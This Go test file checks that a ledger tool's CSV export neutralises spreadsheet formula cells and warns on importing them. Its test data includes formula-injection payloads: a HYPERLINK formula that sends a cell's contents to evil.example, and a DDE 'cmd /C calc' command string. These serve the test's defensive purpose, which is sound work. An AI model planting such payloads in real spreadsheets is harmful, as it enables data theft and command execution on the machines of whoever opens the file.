package ledger

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"jianzheng/generator/catalog"
)

func TestCSVCell(t *testing.T) {
	for v, want := range map[string]string{
		"=1+1":                    "'=1+1",
		"+cmd|' /C calc'!A0":      "'+cmd|' /C calc'!A0",
		"@SUM(1+1)":               "'@SUM(1+1)",
		"-x":                      "'-x",
		"-":                       "'-",
		"\tx":                     "'\tx",
		"\rx":                     "'\rx",
		"'=x":                     "''=x",
		"''@x":                    "'''@x",
		"-3":                      "-3",
		"-0.5":                    "-0.5",
		"-1e5":                    "-1e5",
		"'quoted'":                "'quoted'",
		"户口簿":                     "户口簿",
		"a=b":                     "a=b",
		"":                        "",
		`=HYPERLINK("http://e/")`: `'=HYPERLINK("http://e/")`,
	} {
		got := csvCell(v)
		if got != want {
			t.Errorf("csvCell(%q) = %q, want %q", v, got, want)
		}
		back, q := fromCSVCell(got)
		if back != v || q != (got != v) {
			t.Errorf("fromCSVCell(%q) = %q, %v; want %q, %v", got, back, q, v, got != v)
		}
	}
}

// hostile are values a hostile contributor might give a record.
var hostile = []string{
	`=HYPERLINK("http://evil.example/?x="&A1,"详情")`,
	`+cmd|' /C calc'!A0`,
	`@SUM(1+1)`,
	`-2+3`,
	`'=already quoted`,
}

// TestCSVFormulas: an export quotes every formula-like cell, reads back to
// the same records without a warning, and a sheet typed by hand with such
// cells reads with one warning per cell.
func TestCSVFormulas(t *testing.T) {
	c := loadSample(t)
	recs := records(c, catalog.Cancelled)
	for i, v := range hostile {
		recs[i].Name = v
		recs[i].Aliases = []string{v, "别名"}
	}
	data := CSV(c, catalog.Cancelled)
	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(data, []byte("\uFEFF")))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range rows {
		for _, cell := range row {
			if formulaLike(cell) {
				t.Errorf("the export has a cell a spreadsheet would run: %q", cell)
			}
		}
	}
	got, errs, warns := ReadWarn("cancelled.csv", data, catalog.Cancelled, c)
	if errs != nil {
		t.Fatalf("reading the export back:\n%v", errs)
	}
	if warns != nil {
		t.Errorf("warnings on our own export:\n%v", warns)
	}
	sameRecords(t, "cancelled.csv", got, recs)

	// The same rows as someone typed them: a warning at each formula cell.
	var b bytes.Buffer
	w := csv.NewWriter(&b)
	for i, row := range rows {
		if i > 0 {
			row[0] = "" // new records
			for j := range row {
				row[j], _ = fromCSVCell(row[j])
			}
		}
		w.Write(row)
	}
	w.Flush()
	_, errs, warns = ReadWarn("typed.csv", b.Bytes(), catalog.Cancelled, c)
	if errs != nil {
		t.Fatalf("reading the typed sheet:\n%v", errs)
	}
	var lines []string
	for _, e := range warns {
		lines = append(lines, e.Error())
	}
	want := `typed.csv:2:2: 注意：B 列 证明名称 的 "=HYPERLINK(\"http://evil.example/?x=\"&A1,…" 开头像电子表格的公式（= + - @）：已按文字导入，不会当公式算；导出 CSV 时会在它前面加一个 '`
	if len(lines) != 2*(len(hostile)-1) || lines[0] != want {
		t.Errorf("warnings:\n%s\nwant %d, the first:\n%s", strings.Join(lines, "\n"), 2*(len(hostile)-1), want)
	}
}
